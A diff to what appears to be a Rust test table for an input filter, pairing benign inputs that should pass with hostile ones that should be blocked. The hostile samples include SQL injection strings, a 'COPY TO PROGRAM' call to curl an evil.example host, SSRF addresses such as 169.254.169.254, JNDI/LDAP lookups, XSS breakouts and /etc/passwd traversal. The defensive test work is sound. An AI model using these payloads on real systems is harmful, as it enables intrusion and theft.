@@ -145,6 +145,20 @@ const PAIRS: &[Pair] = &[
         "1; DROP TABLE users", "x' UNION SELECT password FROM users -- ", "SELECT 1 FROM a; EXEC xp_cmdshell 'dir'", "SELECT 1 FROM a WHERE b = 'c' OR SLEEP(5)",
     ])),
     at("/api/users", body("name", &["Kim"], &["SELECT * FROM users WHERE 1=1 AND name = 'kim' -- only kim", "SELECT 1 FROM a; DROP TABLE b"])),
+    at("/api/query", body("title", &["orders"], &["SELECT 1 UNION SELECT password FROM users", "select' union select password from users where 'a'='a"])),
+    at("/api/query", body("sql", &[
+        "select id \"ID\", count(*) \"n\" from a group by 1", "SELECT a.`b` c FROM `x`.`y` WHERE d LIKE 'e%' AND f IN ('g','h')", "select concat(a, ' and ', b) from t where c = 'it''s'",
+        "select * from t where a = N'x' or b ~ E'\\d'", "SET search_path TO 'x'; SELECT 1 FROM a", "show tables", "describe orders",
+    ], &[
+        "select' union select password from users where 'a'='a", "set' or '1'='1", "begin; '; drop table users --", "select 1; copy x from program 'id'", "describe it' or '1'='1",
+        "use' or '1'='1' or '", "'; copy x from program 'id'; --", "COPY (select 1) TO PROGRAM 'curl http://evil.example'",
+    ])),
+    body("filter", &[
+        "select id from a where data->>'x' = 'y'", "SELECT COUNT(*) FROM a WHERE b = 1 AND c BETWEEN '2024-01-01' AND '2024-02-01'", "with a as (select id from b) select * from a where x = 'y'",
+    ], &["describe it ' or '1'='1", "show me from 'x' or 'a'='a'", "describe it ' union select password, 2 from users where 'x'='x"]),
+    body("comment", &[
+        "I think 1=1 is always true -- why do you write WHERE 1=1?", "What does SELECT a FROM b WHERE 1=1 do in MySQL?", "Please copy it from program 7 to the new list",
+    ], &["1 or 1=1 -- this is the", "1 or 1=1 # is the you", "1) or (1=1) -- and the is", "1 or 1=1; this is the", "x'; copy a from program 'id'; --"]),
     // addresses that are not fetched
     query("state_url", &["http://localhost:3000/dashboard"], &["http://127.0.0.1:6379/", "http://169.254.169.254/"]),
     query("dest", &["https://www.example.com/"], &["http://localhost:3000/dashboard"]),
@@ -154,10 +168,33 @@ const PAIRS: &[Pair] = &[
     query("q", &["eval() in PHP 8", "alert('hi') does nothing", "how to use union select"], &["alert(1)//does nothing", "1 union select null", "alert(1) in window"]),
     body("content", &["<p>It <code>alert('x')</code>s</p>"], &["<p><code>system('id')</code></p>", "<p><code>x;cat /etc/passwd</code></p>"]),
     body("home", &["http://localhost:8080"], &["http://127.0.0.1:2375/", "http://169.254.169.254/"]),
-    body("endpoint", &["ws://localhost:8080/ws"], &["http://localhost:8080/ws", "gopher://localhost:8080/"]),
-    body("ldap_url", &["ldap://127.0.0.1:389", "ldap://localhost"], &["ldap://127.0.0.1:6379", "ldap://169.254.169.254/"]),
+    body("endpoint", &["wss://push.example.com/ws", "ftp://files.example.com/a"], &[
+        "http://localhost:8080/ws", "gopher://localhost:8080/", "ws://127.0.0.1", "ws://localhost:8080/ws", "wss://169.254.169.254", "ws://127.0.0.1:6379/", "ws://[::1]/", "ws://0x7f000001/", "ws://2130706433/",
+        "redis://127.0.0.1:6379", "memcached://127.0.0.1:11211", "mqtt://localhost", "ftp://127.0.0.1/", "dict://10.0.0.1:11211/", "tftp://10.0.0.1/x", "jar:ws://127.0.0.1!/", "jar:http://127.0.0.1!/x",
+        "http+unix://%2Fvar%2Frun%2Fdocker.sock/info", "feed:http://127.0.0.1/", "view-source:http://127.0.0.1/", "ldap://127.0.0.1",
+    ]),
+    body("redis_url", &["redis://localhost:6379/0", "rediss://kim:x@127.0.0.1:6379"], &["redis://169.254.169.254/", "http://localhost:6379/", "redis://127.1:6379"]),
+    body("db.dsn", &["postgres://kim:x@localhost:5432/shop", "mysql://127.0.0.1/shop"], &["ws://localhost:5432/", "postgres://0x7f000001/shop"]),
+    at("/admin/settings", body("url", &["mongodb://localhost:27017/shop", "ldap://localhost:389/dc=example,dc=com"], &["ws://localhost/", "ldap://evil.example:1389/Exploit"])),
+    body("ldap_url", &["ldap://127.0.0.1:389", "ldap://localhost", "ldap://ldap.example.com/ou=people,dc=example,dc=com"], &["ldap://127.0.0.1:6379", "ldap://169.254.169.254/", "ldap://evil.example/x"]),
     at("/admin/settings", body("header_html", &["<script async src=https://www.googletagmanager.com/gtag/js?id=G-1></script>"], &["${jndi:ldap://evil.example/a}"])),
     at("/api/pages", body("header_html", &["<b>x</b>"], &["<script src=//evil.example></script>"])),
+    // a quotation has two ends, and leaves nothing that the value is put into
+    body("comment", &[
+        "<p>Type <code>alert('x')</code> here</p>", "<p>don't use &lt;a href=\"x\" onclick=\"f('y')\"&gt; there</p>", "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
+        "<p>It is <b>not</b> &lt;svg onload=\"x\"&gt;</p>",
+    ], &[
+        "<code>\" onfocus=alert(1) autofocus x=\"", "<code>\" onfocus=alert(1) autofocus x=\"</code>", "<p>Type <code>'/onfocus=alert(1) autofocus x='</code></p>", "<code>'-alert(1)-'</code>",
+        "<pre>';alert(1)//", "<tt>javascript:alert(1)", "<code></code><code>\" onfocus=alert(1) x=\"", "<code>`+alert(1)+`</code>", "<b>&lt;\" onfocus=alert(1) autofocus x=\"",
+        "<b>&lt;script&gt;alert(1)&lt;/script&gt;", "<b>x</b>&lt;svg onload=alert(1)&gt;", "<b>&lt;</b>javascript:alert(1)", "<b>&lt; alert(1)</b>", "<b>&lt;b&#39;-alert(1)-&#39;&gt;</b>",
+        "<b>&lt;eval($_POST[1])</b>", "<b>&lt;O:8:\"stdClass\":1:{s:1:\"a\";i:1;}</b>", "<i>alert(1)</i><b>&lt;b&gt;</b>", "<b>&lt;!--#exec cmd=\"ls\" -->",
+    ]),
+    body("title", &["<b>Kim</b>", "What does `alert(1)` do?"], &["<b>&lt;a x=\"\" onfocus=alert(1) autofocus y=\"\"&gt;</b>", "<code>alert(1)</code>"]),
+    // sentences about scripts, of which none is made, and scripts of words
+    body("message", &["Why does alert(document.cookie) show this?", "I can't get document.write('x') to work", "this is the document.cookie you want"], &[
+        "alert(1)-/this is the/", "if (this) alert(1)", "with (this) alert(1)", "this && alert(1) && this", "this\nthis\nalert(1)", "alert(1), 'you are the'",
+        "void this, new it, alert(1)", "a, i, system('id')",
+    ]),
     // passwords that look like a filter or a path
     body("password", &["(*)(uid=x)", "/etc/kim", "a(b)*(c=d)"], &["*)(uid=*))(|(uid=*", "x)(uid=admin))(|(a=b", "/etc/passwd", "../../etc/shadow"]),
 ];
